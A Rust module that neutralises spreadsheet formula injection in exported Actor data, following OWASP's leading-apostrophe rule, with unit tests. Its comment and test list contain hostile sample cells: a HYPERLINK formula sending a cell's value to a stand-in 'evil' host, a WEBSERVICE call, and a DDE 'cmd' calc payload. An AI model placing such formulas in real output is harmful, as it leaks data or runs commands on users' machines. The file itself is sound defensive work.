//! Spreadsheet formulas from Actor data, made harmless. A Store Actor can output a cell such as
//! `=HYPERLINK("https://evil/?"&B2,"Open")`, which a spreadsheet runs when the rows are pasted or
//! opened. OWASP's rule: a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
//! return gets a leading `'`, which spreadsheets show as nothing and which makes the cell text.
//! Plain numbers such as `-3.5` stay numbers.

use std::borrow::Cow;

/// `text` as a spreadsheet will read it as text, never as a formula.
pub fn defused(text: &str) -> Cow<'_, str> {
    let risky = match text.chars().next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !is_plain_number(text),
        _ => false,
    };
    if risky {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A sign, digits, at most one decimal point and an exponent: what a spreadsheet reads as a
/// number and nothing else.
fn is_plain_number(text: &str) -> bool {
    let body = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (mantissa, exponent) = match body.split_once(['e', 'E']) {
        Some((mantissa, exponent)) => (mantissa, Some(exponent)),
        None => (body, None),
    };
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = match mantissa.split_once('.') {
        Some((whole, fraction)) => {
            (digits(whole) || whole.is_empty())
                && (digits(fraction) || fraction.is_empty())
                && !(whole.is_empty() && fraction.is_empty())
        }
        None => digits(mantissa),
    };
    let exponent_ok = exponent.is_none_or(|e| digits(e.strip_prefix(['+', '-']).unwrap_or(e)));
    mantissa_ok && exponent_ok
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_prefix_is_defused_and_numbers_stay_numbers() {
        for hostile in [
            "=HYPERLINK(\"https://evil/?\"&B2,\"Open\")",
            "=WEBSERVICE(\"https://evil\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "-",
            "+",
        ] {
            assert_eq!(defused(hostile), format!("'{hostile}"), "{hostile:?}");
        }
        for harmless in [
            "-3.5",
            "+7",
            "-1e5",
            "2.5E-3",
            "-.5",
            "plain",
            "",
            "a=b",
            "'=already",
        ] {
            assert_eq!(defused(harmless), harmless, "{harmless:?}");
        }
    }
}
